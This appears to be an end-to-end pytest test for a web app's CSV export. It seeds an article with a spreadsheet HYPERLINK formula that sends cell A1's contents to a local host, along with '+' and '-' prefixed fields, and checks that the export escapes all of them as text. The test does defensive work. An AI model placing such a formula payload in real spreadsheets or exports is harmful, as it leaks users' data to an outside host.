"""What a stranger wrote is saved for a spreadsheet so that nothing in it is run."""

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from analysis.store import open_store
from tests.e2e.conftest import Server, Visit
from tests.factory import COLLECTION, make_analysis

pytestmark = pytest.mark.e2e

HOSTILE = '=HYPERLINK("http://127.0.0.1/?x="&A1,"Invoice")'


def fill_hostile(server: Server) -> None:
    store = open_store(server.database)
    analysis = make_analysis()
    article = replace(analysis.article, title=HOSTILE, publisher="+Courier", section="e-mail; -1")
    receipt = store.enqueue(store.collection(COLLECTION).id, "a.txt", article.text.encode())
    store.save_read(receipt.article, article)
    store.save_analysis(receipt.article, replace(analysis, article=article))
    store.settle()


def test_a_title_that_is_a_formula_is_saved_as_text(
    visit: Visit, server: Server, tmp_path: Path
) -> None:
    fill_hostile(server)
    server.start()
    visitor = visit("/articles")
    visitor.sees("1 article")
    button = visitor.page.get_by_role("button", name="CSV", exact=True)
    with visitor.page.expect_download() as waiting:
        button.click()
    assert waiting.value.suggested_filename == "articles-in-scope-my-articles.csv"
    waiting.value.save_as(tmp_path / "saved.csv")
    with (tmp_path / "saved.csv").open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["Title"] == f"'{HOSTILE}"
    assert row["Outlet"] == "'+Courier"
    assert row["Section"] == "e-mail;' -1"
    assert row["Published"] == "2025-03-04"
    assert int(row["Names"]) > 0

    visitor.page.locator("[data-testid=stDataFrame]").hover()
    toolbar = visitor.page.locator("[data-testid=stElementToolbarButton]")
    toolbar.first.wait_for()
    assert visitor.page.get_by_role("button", name="Download as CSV").count() == 0
